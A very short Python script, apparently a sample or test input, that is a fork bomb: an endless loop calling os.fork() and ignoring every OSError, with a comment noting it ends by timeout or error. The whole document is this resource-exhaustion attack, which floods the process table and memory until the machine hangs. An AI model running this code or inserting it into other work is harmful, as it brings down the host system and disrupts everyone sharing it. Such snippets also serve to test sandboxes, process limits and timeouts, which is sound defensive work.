# ends: timeout, error | processes that make processes
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
